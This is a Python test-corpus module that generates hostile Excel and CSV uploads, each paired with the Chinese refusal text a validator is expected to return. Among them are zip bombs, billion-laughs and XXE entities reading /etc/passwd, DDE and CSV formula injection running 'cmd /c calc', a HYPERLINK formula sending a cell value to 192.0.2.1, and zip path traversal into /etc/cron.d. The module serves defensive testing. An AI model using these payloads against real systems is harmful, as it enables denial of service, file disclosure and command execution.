"""Workbooks that would harm: each made by a function whose docstring says how, each with the words of its refusal.

Where a file is harmless once it is read as the plain text it shows, `rows` says what is read (as in messy.py).
"""

import io
import struct
import warnings
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass

from tests.kit.workbooks.corpus.making import (
    BOOK,
    BOOK_RELATIONS,
    DECLARED,
    HEAD,
    MAIN,
    PACKAGE,
    RELATIONS,
    ROW,
    SHARED_RELATIONS,
    SHEET_PART,
    TYPES,
    package,
    sheet,
    written,
    xlsx,
)
from tests.kit.workbooks.corpus.messy import DATA, table

MANY = 1_000_000
TOO_LARGE, DAMAGED, ODD = "展开后过大", "文件已损坏", "文件结构不正常"
BEYOND_LIMITS = "超出了允许的时间或内存"
BEYOND = "超过 50000 行、200 列，或者文字过多"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
LAUGHS = '<!DOCTYPE x [<!ENTITY a "哈"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
PLAIN = """
row | township | name       | since      | phone
2   | 泉溪镇   | 泉溪镇商会 | 2024-03-01 | 13800000001
"""


@dataclass(frozen=True)
class Hostile:
    make: Callable[[], bytes]
    file_name: str
    refused: str
    rows: Mapping[str, Mapping[str, str]]


HOSTILE: dict[str, Hostile] = {}


def hostile(refused="", *, name="花名册.xlsx", rows=""):
    """Collect a maker under its own name."""

    def collect(make):
        HOSTILE[make.__name__] = Hostile(make, name, refused, table(rows))
        return make

    return collect


# Size


@hostile(TOO_LARGE)
def zip_bomb():
    """A sheet of 40 MB of spaces in 40 KB."""
    return package({SHEET_PART: sheet(before=" " * 40 * MANY)})


@hostile(TOO_LARGE)
def bomb_of_small_parts():
    """No part is large, together they are."""
    return package({f"xl/media/{number}.bin": bytes(900_000) for number in range(40)})


@hostile("有 405 个部分，过多")
def many_parts():
    return package({f"xl/media/{number}.png": b"" for number in range(400)})


@hostile("这是压缩包，请先解压")
def zip_in_a_zip():
    """A zip that holds a zip that holds a bomb; only what stands in the first is ever looked at."""
    inner = zipped({"bomb.xlsx": zip_bomb()})
    return zipped({"deeper.zip": inner, "花名册.xlsx": xlsx(HEAD, ROW)})


@hostile(rows=PLAIN)
def huge_dimension():
    """A sheet that says of itself that it has 1,048,576 × 16,384 cells; it is believed what it holds."""
    return package({SHEET_PART: sheet(before='<dimension ref="A1:XFD1048576"/>')})


@hostile("单元格 XFD1048576 离表格太远")
def far_cell():
    """4 KB that span 17 thousand million cells."""
    return package({SHEET_PART: sheet(written(HEAD, ROW) + '<row r="3"><c r="XFD1048576"><v>1</v></c></row>')})


@hostile("单元格 xfd9 离表格太远")
def far_cell_in_another_spelling():
    """The place of a cell in single quotes and small letters, behind other attributes."""
    return package(
        {SHEET_PART: sheet(written(HEAD, ROW) + f"<row><c s='{'1' * 90}' t='n'\nr = 'xfd9'><v>1</v></c></row>")}
    )


@hostile("表格第 1000000 行还有内容或格式")
def far_row():
    return package({SHEET_PART: sheet(written(HEAD, ROW) + f'<row r="{MANY}" ht="15"/>')})


@hostile(TOO_LARGE)
def million_empty_rows():
    return package({SHEET_PART: sheet(written(HEAD, ROW) + "<row/>" * MANY)})


@hostile(BEYOND)
def columns_to_the_end():
    """16,384 columns whose cells do not say where they are."""
    return package({SHEET_PART: sheet(written(HEAD, ROW) + "<row>" + "<c><v>1</v></c>" * 16_384 + "</row>")})


@hostile(BEYOND)
def sheet_in_another_folder():
    """A sheet kept where no sheets are looked for, with a cell at the far end."""
    part = sheet(written(HEAD, ROW) + '<row r="60000"><c r="A60000"><v>1</v></c></row>')
    links = BOOK_RELATIONS.replace("worksheets/sheet1.xml", "data/table.xml")
    return package({"xl/data/table.xml": part, "xl/_rels/workbook.xml.rels": links}, without=[SHEET_PART])


@hostile(BEYOND)
def corner_to_corner():
    """A cell in each corner of 50,000 × 200: ten million cells in between."""
    return package({SHEET_PART: sheet(written(HEAD, ROW) + '<row r="50000"><c r="GR50000"><v>1</v></c></row>')})


@hostile(BEYOND)
def one_sheet_by_many_names():
    """A workbook of 4,000 sheets that are all the same part."""
    return package({"xl/workbook.xml": _sheets(4000)})


@hostile(BEYOND)
def a_hundred_times_the_work():
    """A hundred sheets that are all the same part of 100,000 empty cells: every one is read again."""
    rows = "".join(
        f'<row r="{number}">' + f'<c r="A{number}"/><c r="B{number}"/>' * 3 + "</row>" for number in range(1, 30_000)
    )
    return package({SHEET_PART: sheet(rows), "xl/workbook.xml": _sheets(100)})


@hostile(BEYOND)
def shared_text_copied():
    """A text of 30,000 characters that 1,500 cells share."""
    return _shared(1500)


@hostile(BEYOND_LIMITS)
def shared_text_copied_beyond_memory():
    """The same by 40,000 cells: 3.6 GB, if they were copied."""
    return _shared(40_000)


@hostile(TOO_LARGE)
def million_styles():
    styles = '<xf numFmtId="0"/>' * MANY
    return package({"xl/styles.xml": f'<styleSheet xmlns="{MAIN}"><cellXfs>{styles}</cellXfs></styleSheet>'})


@hostile("合并的单元格太多")
def merged_everywhere():
    """A thousand merged ranges, each over the whole sheet."""
    merges = '<mergeCell ref="A1:GR50000"/>' * 1000
    return package({SHEET_PART: sheet(after=f"<mergeCells>{merges}</mergeCells>")})


@hostile("文件超过 10 MB")
def too_many_bytes():
    return b"PK\x03\x04" + bytes(11 * MANY)


@hostile(DAMAGED)
def tags_without_end():
    """A sheet of 300,000 opened tags: a careless pattern would look for the end of each of them."""
    return package({SHEET_PART: sheet("<c " * 300_000)}, stored=[SHEET_PART])


@hostile(rows=PLAIN)
def nested_deeply():
    """100,000 elements in each other, behind the rows."""
    return package({SHEET_PART: sheet(after="<x>" * 100_000 + "</x>" * 100_000)}, stored=[SHEET_PART])


# XML


@hostile("不允许的定义")
def billion_laughs():
    rows = written(HEAD, ["泉溪镇", "&c;", "2024-03-01", "13800000001"])
    return package({SHEET_PART: sheet(rows).replace(DECLARED, DECLARED + LAUGHS)})


@hostile("不允许的定义")
def laughs_in_the_strings():
    shared = f'{DECLARED}{LAUGHS}<sst xmlns="{MAIN}"><si><t>&c;</t></si></sst>'
    return package({"xl/sharedStrings.xml": shared, "xl/_rels/workbook.xml.rels": SHARED_RELATIONS})


@hostile("不允许的定义")
def external_entity():
    """The server's own files as the name of a sheet."""
    doctype = '<!DOCTYPE workbook [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
    return package({"xl/workbook.xml": BOOK.replace(DECLARED, DECLARED + doctype).replace("Sheet1", "&secret;")})


@hostile("不允许的定义")
def definitions_in_utf16():
    """The same in an encoding in which the word DOCTYPE looks different."""
    text = sheet().replace(DECLARED, '<?xml version="1.0" encoding="UTF-16"?>' + LAUGHS)
    return package({SHEET_PART: text.encode("utf-16")})


@hostile("不允许的定义")
def definition_on_a_seam():
    """A DOCTYPE across the border of two pieces that are looked at."""
    doctype = '<!DOCTYPE worksheet SYSTEM "http://192.0.2.1/x.dtd">'
    return package({SHEET_PART: " " * ((1 << 16) - 5) + doctype + sheet()}, stored=[SHEET_PART])


# More than cells


@hostile("链接了其他文件")
def external_workbook():
    return package({"xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{MAIN}"/>'})


@hostile("链接了其他文件")
def dde_link():
    """A link that starts a program."""
    link = f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    return package({"xl/externalLinks/externalLink7.xml": link})


@hostile("链接了其他文件")
def picture_from_outside():
    """A relation that makes the opening program fetch something."""
    links = outside("image", "http://192.0.2.1/x.png")
    return package({"xl/drawings/_rels/drawing1.xml.rels": links})


@hostile(rows=PLAIN)
def hyperlinks():
    """A mail address that the spreadsheet made a link of is no danger."""
    links = outside("hyperlink", "mailto:a@example.org")
    return package({"xl/worksheets/_rels/sheet1.xml.rels": links})


@hostile("连接了外部数据")
def web_query():
    return package({"xl/connections.xml": f'<connections xmlns="{MAIN}"/>'})


@hostile("含有宏")
def macros():
    """An xlsm by another name."""
    return package({"xl/vbaProject.bin": OLE})


@hostile("含有宏")
def macros_by_another_name():
    """The same with its macros under a harmless name."""
    types = TYPES.replace("spreadsheetml.sheet.main", "ms-excel.sheet.macroEnabled.main")
    return package({"xl/theme.bin": OLE, "[Content_Types].xml": types})


@hostile("含有宏表")
def macro_sheet():
    """Macros as Excel 4 had them, in cells."""
    return package({"xl/macrosheets/sheet1.xml": f'<xm:macrosheet xmlns:xm="{MAIN}"/>'})


@hostile("含有控件")
def controls():
    return package({"xl/activeX/activeX1.bin": OLE})


@hostile("嵌入了其他文件")
def embedded_program():
    return package({"xl/embeddings/oleObject1.bin": b"MZ"})


@hostile("文件含有宏", name="花名册.xls")
def macros_of_excel97():
    return (DATA / "excel97.xls").read_bytes() + "_VBA_PROJECT_CUR".encode("utf-16-le")


@hostile(
    name="花名册.csv",
    rows="""
    row | name               | note
    2   | =cmd¦'/c calc'!A0  | @SUM(1+1)*cmd¦' /C calc'!A0
    3   | =HYPERLINK("http://192.0.2.1/?"&A1) | -2+3
    """,
)
def formulas_in_csv():
    """Texts that a spreadsheet would run: here they are texts, and go out again as texts."""
    text = "名称,备注\n=cmd|'/c calc'!A0,@SUM(1+1)*cmd|' /C calc'!A0\n"
    return (text + '"=HYPERLINK(""http://192.0.2.1/?""&A1)",-2+3\n').encode()


@hostile(rows=PLAIN)
def formula_that_calls_out():
    """A formula that would call a program: only the value beside it is read."""
    rows = (
        written(HEAD, ["泉溪镇"]).removesuffix("</row>")
        + '<c r="B2" t="str"><f>cmd|\'/c calc\'!A0</f><v>泉溪镇商会</v></c>'
    )
    rest = "".join(
        f'<c r="{letter}2" t="inlineStr"><is><t>{text}</t></is></c>' for letter, text in zip("CD", ROW[2:], strict=True)
    )
    return package({SHEET_PART: sheet(f"{rows}{rest}</row>")})


# Secrets and damage


@hostile("文件加了密码")
def encrypted():
    """Excel's own encryption: an OLE file around the real one."""
    return OLE + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(600)


@hostile("文件加了密码")
def encrypted_zip():
    """A zip whose entries say that they are encrypted."""
    content = bytearray(package())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        while at >= 0:
            content[at + offset] |= 1
            at = content.find(mark, at + 4)
    return bytes(content)


@hostile("文件加了密码", name="花名册.xls")
def encrypted_xls():
    """A workbook of Excel 97 with a password: the record after its opening says so."""
    content = bytearray((DATA / "excel97.xls").read_bytes())
    kind, length = struct.unpack_from("<HH", content, at := _book_stream(content))
    struct.pack_into("<H", content, at + 4 + length, 0x2F)
    assert kind == 0x809
    return bytes(content)


@hostile(DAMAGED)
def cut_off():
    """A transfer that broke in the middle."""
    content = xlsx(HEAD, ROW)
    return content[: len(content) // 2]


@hostile(DAMAGED)
def wrong_checksum():
    content = bytearray(package(stored=[SHEET_PART]))
    content[content.index("泉溪镇商会".encode())] ^= 1
    return bytes(content)


@hostile(DAMAGED)
def head_of_a_zip_alone():
    return b"PK\x03\x04" + bytes(range(256)) * 20


@hostile(DAMAGED, name="花名册.xls")
def head_of_an_xls_alone():
    return OLE + bytes(range(256)) * 20


@hostile(ODD)
def path_traversal():
    return package({"../../etc/cron.d/x": b"* * * * * root id"})


@hostile(ODD)
def absolute_path():
    return package({"\\xl\\..\\..\\x.xml": b""})


@hostile(ODD)
def part_twice():
    """Two parts of one name: whoever looks at the first lets the second through."""
    out = io.BytesIO(package())
    with warnings.catch_warnings(), zipfile.ZipFile(out, "a") as file:
        warnings.simplefilter("ignore")
        file.writestr(SHEET_PART, sheet(before="<!-- other -->"))
    return out.getvalue()


@hostile(ODD)
def symbolic_link():
    out = io.BytesIO(package(without=[SHEET_PART]))
    with zipfile.ZipFile(out, "a") as file:
        entry = zipfile.ZipInfo(SHEET_PART)
        entry.external_attr = 0o120777 << 16
        file.writestr(entry, "/etc/passwd")
    return out.getvalue()


@hostile(DAMAGED)
def relation_to_nothing():
    return package(without=[SHEET_PART])


@hostile("没有找到表头")
def relations_in_a_circle():
    """A sheet that is the workbook itself."""
    return package({"xl/_rels/workbook.xml.rels": BOOK_RELATIONS.replace("worksheets/sheet1.xml", "workbook.xml")})


@hostile(DAMAGED)
def sheet_that_is_no_xml():
    return package({SHEET_PART: bytes(range(1, 255)) * 50})


@hostile(DAMAGED)
def string_that_is_not_there():
    """A cell that points behind the last shared text."""
    rows = written(HEAD) + '<row r="2"><c r="A2" t="s"><v>99999999</v></c></row>'
    strings = {"xl/sharedStrings.xml": f'<sst xmlns="{MAIN}"/>', "xl/_rels/workbook.xml.rels": SHARED_RELATIONS}
    return package({SHEET_PART: sheet(rows), **strings})


@hostile(DAMAGED)
def row_before_the_first():
    return package({SHEET_PART: sheet(written(HEAD, ROW) + '<row r="0"><c r="A0"><v>1</v></c></row>')})


@hostile(
    rows="""
    row | people    | since       | code
    2   | !不是整数 | !不是日期   | !科学计数法
    3   | !不是整数 | !不是日期   |
    """
)
def numbers_beyond_all():
    """Infinity, not a number and days after the end of time."""
    heads = written(["名称", "会员人数", "成立日期", "登记证号"])
    row2 = '<c r="A2" t="inlineStr"><is><t>甲</t></is></c><c r="B2"><v>1e999</v></c><c r="C2" s="1"><v>1e300</v></c><c r="D2"><v>1e300</v></c>'
    row3 = '<c r="A3" t="inlineStr"><is><t>乙</t></is></c><c r="B3"><v>NaN</v></c><c r="C3"><v>-5</v></c><c r="D3"><v>7</v></c>'
    styles = f'<styleSheet xmlns="{MAIN}"><cellXfs><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>'
    return package(
        {SHEET_PART: sheet(f'{heads}<row r="2">{row2}</row><row r="3">{row3}</row>'), "xl/styles.xml": styles}
    )


# Something else


@hostile("这是网页或 XML 文件", name="花名册.xls")
def web_page():
    """A web page by the name of a workbook, as many systems export."""
    return (
        '<html xmlns:x="urn:schemas-microsoft-com:office:excel"><table><tr><td>名称</td></tr></table></html>'.encode()
    )


@hostile("这是网页或 XML 文件", name="花名册.xls")
def xml_of_2003():
    return f'{DECLARED}<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>'.encode()


@hostile("这是 PDF 文件")
def pdf():
    return b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF"


@hostile("这是图片", name="花名册.xls")
def picture():
    return b"\x89PNG\r\n\x1a\n" + bytes(60)


@hostile("这是 Word 文档")
def word_document():
    return zipped({"[Content_Types].xml": TYPES, "word/document.xml": "<w/>"})


@hostile("这是 xlsb 格式")
def binary_workbook():
    return zipped({"[Content_Types].xml": TYPES, "xl/workbook.bin": b"\x83"})


@hostile("文件不是 UTF-8 或 GBK 编码的文本", name="花名册.csv")
def program():
    return b"MZ\x90\x00\x03\xff\xff\xff\x00" + bytes(range(256)) * 4


@hostile("文件已损坏，或不是 Excel 工作簿", name="花名册.csv")
def csv_with_nul():
    return "名称,备注\n泉溪镇\x00商会,甲\n".encode()


@hostile("文件超过 10 MB", name="花名册.csv")
def csv_of_one_long_line():
    """50 MB without an end of line."""
    return b"a" * 50 * MANY


@hostile("单元格是否过长", name="花名册.csv")
def csv_of_one_long_cell():
    """The same just small enough to be let in."""
    return "名称,备注\n".encode() + b"a" * 9 * MANY


@hostile("超过 50000 行或 200 列", name="花名册.csv")
def csv_without_end():
    return "名称,备注\n".encode() + b"a,b\n" * 200_000


@hostile("超过 50000 行或 200 列", name="花名册.csv")
def csv_of_commas():
    """A line of five million commas."""
    return "名称,备注\n".encode() + b"," * 5 * MANY


@hostile(BEYOND_LIMITS, name="花名册.xls")
def corner_of_an_xls():
    """A workbook of Excel 97 whose one number stands in its last row and column."""
    content = bytearray((DATA / "excel97.xls").read_bytes())
    at = _book_stream(content)
    while (kind := struct.unpack_from("<H", content, at)[0]) not in {0x203, 0x27E}:
        at += 4 + struct.unpack_from("<H", content, at + 2)[0]
        assert kind
    struct.pack_into("<HH", content, at + 4, 65_535, 255)
    return bytes(content)


def _book_stream(content):
    """Where the records of an xls begin: BOF, version 6."""
    return content.index(b"\x09\x08\x10\x00\x00\x06")


def _sheets(count):
    sheets = "".join(f'<sheet name="S{number}" sheetId="{number}" r:id="rId1"/>' for number in range(1, count + 1))
    return BOOK.replace('<sheet name="Sheet1" sheetId="1" r:id="rId1"/>', sheets)


def _shared(cells):
    text = "统" * 30_000
    rows = "".join(
        f'<row r="{number}">' + "".join(f'<c r="{letter}{number}" t="s"><v>0</v></c>' for letter in "ABCD") + "</row>"
        for number in range(3, 3 + cells // 4)
    )  # fmt: skip
    return package({
        SHEET_PART: sheet(written(HEAD, ROW) + rows), "xl/_rels/workbook.xml.rels": SHARED_RELATIONS,
        "xl/sharedStrings.xml": f'<sst xmlns="{MAIN}"><si><t>{text}</t></si></sst>',
    })  # fmt: skip


def outside(kind, target):
    """The relations of a part with one that leaves the package."""
    link = f'<Relationship Id="rId1" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="External"/>'
    return f'<Relationships xmlns="{PACKAGE}/relationships">{link}</Relationships>'


def zipped(parts):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in parts.items():
            file.writestr(name, content)
    return out.getvalue()
